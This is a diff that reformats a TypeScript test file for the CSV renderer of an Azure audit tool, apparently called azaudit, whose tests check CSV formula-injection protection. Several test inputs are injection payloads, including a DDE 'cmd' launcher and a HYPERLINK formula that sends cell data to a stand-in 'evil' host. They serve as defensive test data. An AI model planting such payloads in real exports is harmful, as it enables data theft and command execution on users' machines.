@@ -12,7 +12,12 @@ function finding(p: Partial<Finding> & { name?: string | null } = {}): Finding {
     confidence: "high",
     messageId: "tooLong",
     message: "Client secret is valid for 730 days.",
-    resource: { id: "entra/applications/00000000-0000-4000-8000-000000000001", type: "Microsoft.Graph/applications", displayName: name, subscriptionId: null },
+    resource: {
+      id: "entra/applications/00000000-0000-4000-8000-000000000001",
+      type: "Microsoft.Graph/applications",
+      displayName: name,
+      subscriptionId: null,
+    },
     evidence: { keyId: "k1", lifetimeDays: 730, endDateTime: null },
     fingerprint: "a".repeat(64),
     compliance: ["MCSB IM-3", "MCSB IM-8"],
@@ -25,8 +30,25 @@ function result(findings: Finding[]): ScanResult {
   return {
     schema: SCAN_RESULT_SCHEMA,
     tool: { name: "azaudit", version: "0.1.0" },
-    run: { startedAt: "2026-06-01T00:00:00Z", collectedAt: "2026-06-01T00:00:00Z", source: "snapshot", cloud: null, tenantId: null, tenantName: null },
-    summary: { total: findings.length, open: findings.length, suppressed: 0, baseline: 0, bySeverity: { critical: 0, high: findings.length, medium: 0, low: 0, info: 0 }, failOn: "high", complete: true, rulesInError: [], exitCode: 1 },
+    run: {
+      startedAt: "2026-06-01T00:00:00Z",
+      collectedAt: "2026-06-01T00:00:00Z",
+      source: "snapshot",
+      cloud: null,
+      tenantId: null,
+      tenantName: null,
+    },
+    summary: {
+      total: findings.length,
+      open: findings.length,
+      suppressed: 0,
+      baseline: 0,
+      bySeverity: { critical: 0, high: findings.length, medium: 0, low: 0, info: 0 },
+      failOn: "high",
+      complete: true,
+      rulesInError: [],
+      exitCode: 1,
+    },
     coverage: [],
     rules: [],
     findings,
@@ -95,7 +117,12 @@ describe("renderCsv", () => {
     const f = finding({
       state: "suppressed",
       suppression: { reason: "migration ticket 42", expires: "2026-12-31", resource: "entra/applications/*" },
-      resource: { id: "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Web/sites/web", type: "Microsoft.Web/sites", displayName: "web", subscriptionId: "s1" },
+      resource: {
+        id: "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Web/sites/web",
+        type: "Microsoft.Web/sites",
+        displayName: "web",
+        subscriptionId: "s1",
+      },
     });
     const [header, row] = rowsOf([f]);
     const byColumn = Object.fromEntries(header!.map((c, i) => [c, row![i]]));
@@ -136,11 +163,14 @@ describe("renderCsv", () => {
     expect(csv).toContain(`"'${visible(trigger)}HYPERLINK(""http://evil/?x=""&A1,""click"")"`);
   });
 
-  it.each(["\n=cmd|' /C calc'!A0", " =1+1", "\r\n@SUM(1)", "\u00a0-2+3"])("guards %j, a formula behind leading whitespace or a line break", (payload) => {
-    const [, row] = rowsOf([finding({ name: payload })]);
-    expect(row![4]!.startsWith("'")).toBe(true);
-    expect(row![4]).not.toMatch(/[\r\n]/);
-  });
+  it.each(["\n=cmd|' /C calc'!A0", " =1+1", "\r\n@SUM(1)", "\u00a0-2+3"])(
+    "guards %j, a formula behind leading whitespace or a line break",
+    (payload) => {
+      const [, row] = rowsOf([finding({ name: payload })]);
+      expect(row![4]!.startsWith("'")).toBe(true);
+      expect(row![4]).not.toMatch(/[\r\n]/);
+    },
+  );
 
   it("leaves the trigger characters alone when they are not at the start", () => {
     const [, row] = rowsOf([finding({ name: "a=b+c-d@e" })]);
@@ -164,15 +194,25 @@ describe("renderCsv", () => {
   });
 
   it("is deterministic, whatever order the evidence keys were built in", () => {
-    const a = result([finding({ evidence: { b: 1, a: ["x", "y"], c: null } }), finding({ severity: "low", fingerprint: "c".repeat(64) })]);
-    const b = result([finding({ evidence: { c: null, a: ["x", "y"], b: 1 } }), finding({ severity: "low", fingerprint: "c".repeat(64) })]);
+    const a = result([
+      finding({ evidence: { b: 1, a: ["x", "y"], c: null } }),
+      finding({ severity: "low", fingerprint: "c".repeat(64) }),
+    ]);
+    const b = result([
+      finding({ evidence: { c: null, a: ["x", "y"], b: 1 } }),
+      finding({ severity: "low", fingerprint: "c".repeat(64) }),
+    ]);
     expect(renderCsv(a)).toBe(renderCsv(b));
     expect(renderCsv(a)).toBe(renderCsv(structuredClone(a)));
     expect(renderCsv(a)).toContain('"{""a"":[""x"",""y""],""b"":1,""c"":null}"');
   });
 
   it("keeps the result's finding order", () => {
-    const rows = rowsOf([finding({ fingerprint: "1".repeat(64) }), finding({ fingerprint: "2".repeat(64) }), finding({ fingerprint: "0".repeat(64) })]);
+    const rows = rowsOf([
+      finding({ fingerprint: "1".repeat(64) }),
+      finding({ fingerprint: "2".repeat(64) }),
+      finding({ fingerprint: "0".repeat(64) }),
+    ]);
     expect(rows.slice(1).map((r) => r[9]![0])).toEqual(["1", "2", "0"]);
   });
 });
